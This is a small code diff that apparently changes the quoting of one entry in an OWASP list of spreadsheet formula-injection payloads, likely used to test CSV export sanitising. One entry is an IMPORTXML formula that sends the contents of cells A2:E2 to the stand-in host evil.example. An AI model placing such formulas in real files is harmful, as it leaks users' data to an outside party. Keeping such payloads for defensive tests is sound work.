@@ -33,7 +33,7 @@ OWASP_PAYLOADS = [
     "\r=1+2",
     '=1+2";=1+2',
     "=1+2'\" ;,=1+2",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
 ]
 
 
